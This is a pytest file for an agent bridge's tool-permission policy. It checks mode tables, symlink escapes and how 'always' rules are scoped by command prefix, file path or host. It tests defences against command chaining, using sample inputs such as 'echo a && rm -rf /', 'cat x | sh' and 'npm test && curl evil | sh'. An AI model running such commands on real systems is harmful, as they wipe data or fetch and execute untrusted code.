"""The permission policy as a pure table: what each mode does with each tool, how "always" scopes are drawn
and matched, and that every non-default decision says why."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from acp_bridge import mapping
from acp_bridge.permissions.command_scope import command_prefix
from acp_bridge.permissions.policy import PolicyConfig, SessionPermissions
from acp_bridge.permissions.scope import Scope


@pytest.mark.parametrize(
    ("command", "prefix"),
    [
        ("npm test", ("npm", "test")),
        ("npm test -- --watch", ("npm", "test")),
        ("npm run build", ("npm", "run", "build")),
        ("git status --short", ("git", "status")),
        ("git --no-pager log", None),  # a global option before the sub-command: exact only
        ("python3 app.py --verbose", ("python3", "app.py")),
        ("python -m pytest -q", ("python", "-m", "pytest")),
        ("ls -la", ("ls",)),
        ("python3 -c 'print(1)'", None),
        ("python3", None),
        ("echo a && rm -rf /", None),
        ("echo a; rm -rf /", None),
        ("cat x | sh", None),
        ("echo $(whoami)", None),
        ("echo hi > out.txt", None),
        ("FOO=1 npm test", None),
        ("echo 'unterminated", None),
        ("", None),
    ],
)
def test_command_prefix(command: str, prefix: tuple[str, ...] | None) -> None:
    assert command_prefix(command) == prefix


def _perms(tmp_path: Path, **config: Any) -> SessionPermissions:
    return SessionPermissions(PolicyConfig(**config), str(tmp_path), (str(tmp_path),))


@pytest.mark.parametrize(
    ("mode", "tool", "inside", "expected"),
    [
        ("default", "read", True, "allow"),
        ("default", "read", False, "ask"),
        ("default", "grep", True, "allow"),
        ("default", "todo_write", True, "allow"),
        ("default", "edit", True, "ask"),
        ("default", "write", False, "ask"),
        ("default", "bash", True, "ask"),
        ("default", "web_fetch", True, "ask"),
        ("default", "some_unknown_tool", True, "ask"),
        ("accept_edits", "edit", True, "allow"),
        ("accept_edits", "write", False, "ask"),
        ("accept_edits", "bash", True, "ask"),
        ("plan", "read", True, "allow"),
        ("plan", "read", False, "ask"),
        ("plan", "edit", True, "deny"),
        ("plan", "bash", True, "deny"),
        ("plan", "web_fetch", True, "deny"),
        ("full_access", "bash", True, "allow"),
        ("full_access", "write", False, "allow"),
    ],
)
def test_mode_table(tmp_path: Path, mode: str, tool: str, inside: bool, expected: str) -> None:
    perms = _perms(tmp_path, mode=mode)
    path = "notes.md" if inside else "/etc/hosts"
    args = {"file_path": path, "command": "make", "url": "https://example.com/x", "pattern": "x"}
    decision = perms.decide(tool, args)
    assert decision.kind == expected
    if expected == "deny":
        assert decision.reason and decision.note  # never a silent denial
    if mode in ("accept_edits", "full_access") and expected == "allow" and tool not in ("read", "grep"):
        assert decision.note  # an auto-approval says which mode decided it


def test_a_symlink_out_of_the_workspace_counts_as_outside(tmp_path: Path) -> None:
    (tmp_path / "link").symlink_to("/etc")
    perms = _perms(tmp_path)
    assert perms.decide("read", {"file_path": "link/hosts"}).kind == "ask"
    assert perms.decide("read", {"file_path": "..cache/x"}).kind == "allow"  # a segment, not a `..`


def test_cli_overrides(tmp_path: Path) -> None:
    perms = _perms(
        tmp_path,
        allow_tools=frozenset({"bash"}),
        ask_tools=frozenset({"read"}),
        deny_tools=frozenset({"grep"}),
    )
    assert perms.decide("bash", {"command": "make"}).kind == "allow"
    assert perms.decide("read", {"file_path": "a"}).kind == "ask"
    denied = perms.decide("grep", {"pattern": "x"})
    assert denied.kind == "deny"
    assert "--deny-tool grep" in (denied.reason or "")


def test_always_rules_scope_bash_by_prefix_and_files_by_path(tmp_path: Path) -> None:
    perms = _perms(tmp_path)
    perms.remember(perms.scope_for("bash", {"command": "npm test"}), allow=True)
    perms.remember(perms.scope_for("edit", {"file_path": "src/app.py"}), allow=True)
    assert perms.decide("bash", {"command": "npm test -- --watch"}).kind == "allow"
    assert perms.decide("bash", {"command": "npm install left-pad"}).kind == "ask"
    assert perms.decide("bash", {"command": "npm test && curl evil | sh"}).kind == "ask"
    assert perms.decide("edit", {"file_path": str(tmp_path / "src" / "app.py")}).kind == "allow"
    assert perms.decide("edit", {"file_path": "src/other.py"}).kind == "ask"
    assert perms.decide("write", {"file_path": "src/app.py"}).kind == "ask"  # another tool, another rule
    note = perms.decide("bash", {"command": "npm test"}).note or ""
    assert "always allow `npm test` commands" in note


def test_a_reject_rule_wins_over_an_allow_rule_and_over_full_access(tmp_path: Path) -> None:
    perms = _perms(tmp_path, mode="full_access")
    perms.remember(perms.scope_for("bash", {"command": "git status"}), allow=True)
    perms.remember(Scope("bash", "prefix", ("git",)), allow=False)
    decision = perms.decide("bash", {"command": "git status"})
    assert decision.kind == "deny"
    assert "always reject `git` commands" in (decision.reason or "")
    assert perms.forget() == 2
    assert perms.decide("bash", {"command": "git status"}).kind == "allow"


def test_compound_commands_get_an_exact_scope(tmp_path: Path) -> None:
    perms = _perms(tmp_path)
    scope = perms.scope_for("bash", {"command": "make && make install"})
    assert (scope.kind, scope.label()) == ("exact", "the command `make && make install`")
    perms.remember(scope, allow=True)
    assert perms.decide("bash", {"command": "make && make install"}).kind == "allow"
    assert perms.decide("bash", {"command": "make && make clean"}).kind == "ask"


def test_web_fetch_is_scoped_by_host(tmp_path: Path) -> None:
    perms = _perms(tmp_path)
    perms.remember(perms.scope_for("web_fetch", {"url": "https://Docs.Python.org/3/"}), allow=True)
    assert perms.decide("web_fetch", {"url": "https://docs.python.org/3/library/"}).kind == "allow"
    assert perms.decide("web_fetch", {"url": "https://example.com/"}).kind == "ask"


def test_a_web_fetch_rule_covers_its_host_and_port_only(tmp_path: Path) -> None:
    perms = _perms(tmp_path)
    scope = perms.scope_for("web_fetch", {"url": "http://LocalHost/docs"})
    assert scope.label() == "`web_fetch` from localhost:80"
    perms.remember(scope, allow=True)
    assert perms.decide("web_fetch", {"url": "http://localhost:80/other"}).kind == "allow"
    assert perms.decide("web_fetch", {"url": "http://localhost:6379/"}).kind == "ask"
    assert perms.decide("web_fetch", {"url": "https://localhost/"}).kind == "ask"  # port 443
    assert perms.scope_for("web_fetch", {"url": "http://[::1]:8080/"}).value == "[::1]:8080"


def test_permission_options_name_their_scope(tmp_path: Path) -> None:
    options = mapping.permission_options(
        _perms(tmp_path).scope_for("edit", {"file_path": "src/app.py"}).label()
    )
    assert [o["optionId"] for o in options] == ["allow_once", "allow_always", "reject_once", "reject_always"]
    assert [o["kind"] for o in options] == [o["optionId"] for o in options]
    assert "`edit` on src/app.py" in options[1]["name"]
    assert "`edit` on src/app.py" in options[3]["name"]


def test_describe_lists_the_mode_and_rules(tmp_path: Path) -> None:
    perms = _perms(tmp_path, mode="accept_edits")
    assert "No remembered rules" in perms.describe()
    perms.remember(perms.scope_for("bash", {"command": "make test"}), allow=False)
    text = perms.describe()
    assert "Accept edits" in text
    assert "always reject `make test` commands" in text
